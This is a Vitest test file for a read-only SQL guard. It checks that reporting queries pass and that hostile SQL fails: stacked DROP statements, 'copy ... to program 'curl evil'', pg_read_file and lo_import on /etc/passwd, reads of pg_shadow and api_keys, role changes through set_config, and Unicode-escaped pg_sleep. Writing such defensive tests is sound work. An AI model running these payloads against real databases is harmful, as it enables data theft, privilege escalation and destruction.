import { describe, expect, it } from "vitest";
import { checkReadonlySql } from "./guard.js";

async function refusal(sql: string): Promise<string> {
  try {
    await checkReadonlySql(sql);
  } catch (error) {
    expect(error).toMatchObject({ code: "validation_failed", details: { field: "sql" } });
    return (error as Error).message;
  }
  throw new Error(`accepted: ${sql}`);
}

describe("read-only SQL guard", () => {
  it.each([
    "select title, headcount from events order by created_at desc",
    "select e.title, count(g.id) from events e left join guests g on g.event_id = e.id group by e.title",
    "with accepted as (select * from guests where rsvp_status = 'accepted') select count(*) from accepted",
    "select city, round(avg(day_rate_minor)) from venues where capacity >= 40 group by city;",
    "select 'Chloé' as name, title from events -- trailing comment",
    "select date_trunc('month', starts_at at time zone time_zone) as month, count(*) from events group by 1",
    "select lower(name), dietary from guests where 'vegan' = any(dietary)",
  ])("accepts a reporting query: %s", async (sql) => {
    await expect(checkReadonlySql(sql)).resolves.toBeTypeOf("string");
  });

  it("returns the statement alone, without the trailing semicolon, byte offsets read right", async () => {
    expect(await checkReadonlySql("select 'Chloé', 'José' from events;")).toBe("select 'Chloé', 'José' from events");
  });

  it.each([
    ["select 1; commit; drop table events", /exactly one statement/],
    ["select 1; select 2", /exactly one statement/],
    ["drop table events", /only SELECT/],
    ["insert into events (title) values ('x')", /only SELECT/],
    ["update guests set rsvp_status = 'accepted'", /only SELECT/],
    ["with gone as (delete from guests returning *) select * from gone", /DeleteStmt/],
    ["with moved as (update events set headcount = 1 returning *) select 1", /UpdateStmt/],
    ["copy (select * from guests) to program 'curl evil'", /only SELECT/],
    ["copy events to '/tmp/x'", /only SELECT/],
    ["set role postgres", /only SELECT/],
    ["reset role", /only SELECT/],
    ["select set_config('role', 'postgres', false)", /function set_config/],
    ["select set_config('event_planner.workspace_id', '00000000-0000-0000-0000-000000000000', true)", /function set_config/],
    ["select pg_sleep(10)", /function pg_sleep/],
    ["select pg_catalog.pg_sleep(10)", /pg_sleep/],
    ["select pg_terminate_backend(pid) from pg_stat_activity", /function pg_terminate_backend|pg_stat_activity/],
    ["select * from dblink('dbname=test', 'select 1') as t(x int)", /dblink/],
    ["select pg_read_file('/etc/passwd')", /pg_read_file/],
    ["select lo_import('/etc/passwd')", /lo_import/],
    ["select * from api_keys", /table api_keys is not readable/],
    ["select * from runs", /table runs is not readable/],
    ["select * from pg_catalog.pg_authid", /pg_catalog\.pg_authid/],
    ["select * from pg_shadow", /pg_shadow/],
    ["select * from information_schema.tables", /information_schema/],
    ["select * from public.api_keys", /api_keys/],
    ["select * from test.public.events", /cross-database/],
    ["select * from events for update", /row locks/],
    ["select * into stolen from events", /SELECT INTO/],
    ["select $1", /ParamRef/],
    ["select 'pg_shadow'::regclass", /cast to regclass/],
    ["select * from (with pg_shadow as (select 1) select 1) a, pg_shadow", /pg_shadow/],
    ["select /* hidden */ pg_sleep/**/(5)", /pg_sleep/],
    ["select U&\"\\0070g_sleep\"(5)", /pg_sleep/],
    ["select * from U&\"\\0061pi_keys\"", /api_keys/],
    ["select $$x$$; drop table events", /exactly one statement/],
    ["select count(*) from events a, events b, events c, events d, events e, events f, events g", /at most 6 table references/],
    ["", /syntax error|exactly one statement/],
    ["select * from events where", /syntax error/],
  ])("refuses %s", async (sql, reason) => {
    expect(await refusal(sql)).toMatch(reason);
  });

  it("refuses an oversized query before parsing it", async () => {
    expect(await refusal(`select ${"1 + ".repeat(5000)}1`)).toMatch(/at most 10000 characters/);
  });
});
